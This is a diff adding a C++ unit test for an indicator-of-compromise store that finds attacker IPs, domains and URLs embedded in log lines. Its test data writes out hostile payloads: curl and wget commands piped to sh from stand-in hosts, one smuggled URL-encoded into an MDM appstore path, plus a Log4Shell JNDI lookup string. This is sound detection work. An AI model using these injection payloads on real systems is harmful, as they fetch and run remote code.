@@ -80,6 +80,56 @@ TEST(IocStoreTest, DomainsUrlsHashesAgents) {
   EXPECT_EQ(hits[2].field, Field::kUserAgentOriginal);
 }
 
+// Indicators written inside a payload or a message: the URL an exploit fetches, the address it
+// calls back to, a domain in a JNDI lookup; only the indicator table decides, so file names and
+// version numbers cost a lookup and match nothing.
+TEST(IocStoreTest, IndicatorsWrittenInsideAPayloadOrAMessage) {
+  IocStore store;
+  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.9", "f", 0).ok());
+  ASSERT_TRUE(store.Add(IocType::kIp, "203.0.113.0/24", "f", 0).ok());
+  ASSERT_TRUE(store.Add(IocType::kDomain, "evil.example", "f", 0).ok());
+  ASSERT_TRUE(store.Add(IocType::kUrl, "http://drop.test/stage2.sh", "f", 0).ok());
+  auto found = [&](const std::string& target, const std::string& agent, bool payloads) {
+    const std::string line =
+        "mdm.example.eu:443 192.0.2.1 - - [30/Jan/2026:09:15:00 +0000] \"GET " + target +
+        " HTTP/1.1\" 404 12 \"-\" \"" + agent + "\"";
+    Event ev;
+    EXPECT_TRUE(ParseAccessLogLine(line, &ev)) << line;
+    std::vector<IocMatch> out;
+    store.MatchEmbedded(ev, payloads, kNow, &out);
+    std::vector<std::string> values;
+    for (const IocMatch& m : out) {
+      values.push_back(std::string(FieldName(m.field)) + "=" + m.ioc->value);
+    }
+    return values;
+  };
+  using V = std::vector<std::string>;
+  const std::string fob =
+      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60curl%20"
+      "http%3A%2F%2F198.51.100.9%3A8080%2Fx.sh%7Csh%60%5D/e2327851-1e09-4463-9b5a-b524bc71fc07.ipa";
+  EXPECT_EQ(found(fob, "curl/8.4.0", true), (V{"url.original=198.51.100.9"}));
+  EXPECT_EQ(found(fob, "curl/8.4.0", false), V{}) << "payloads are read only when asked";
+  EXPECT_EQ(found("/mifs/c/appstore/fob/x?c=wget+-qO-+http://drop.test/stage2.sh|sh", "-", true),
+            (V{"url.original=drop.test/stage2.sh"}));
+  EXPECT_EQ(found("/x?cmd=nslookup%20a.b.EVIL.example.", "-", true),
+            (V{"url.original=evil.example"}));
+  EXPECT_EQ(found("/x?r=203.0.113.77", "${jndi:ldap://evil.example:1389/a}", true),
+            (V{"url.original=203.0.113.0/24", "user_agent.original=evil.example"}));
+  // Near misses: a longer name, a version number, a file name, an address in another /24.
+  EXPECT_EQ(found("/notevil.example/theme2.css?v=17.2.1&ip=198.51.100.90", "-", true), V{});
+  EXPECT_EQ(found("/x?u=evil-example.test&n=198.51.100.9.5", "-", true), V{});
+
+  // A message (syslog, JSON lines) is always read.
+  Event ev;
+  ASSERT_TRUE(ParseJsonLine(
+      R"j({"message":"client 192.0.2.8#53211: query: c2.evil.example IN A +E(0)"})j", &ev));
+  std::vector<IocMatch> out;
+  store.MatchEmbedded(ev, /*payloads=*/false, kNow, &out);
+  ASSERT_EQ(out.size(), 1u);
+  EXPECT_EQ(out[0].field, Field::kMessage);
+  EXPECT_EQ(out[0].ioc->value, "evil.example");
+}
+
 // An indicator without a query names the resource whatever parameters a request gives it; one
 // with a query names that query only.
 TEST(IocStoreTest, UrlWithoutQueryMatchesRequestsWithOne) {
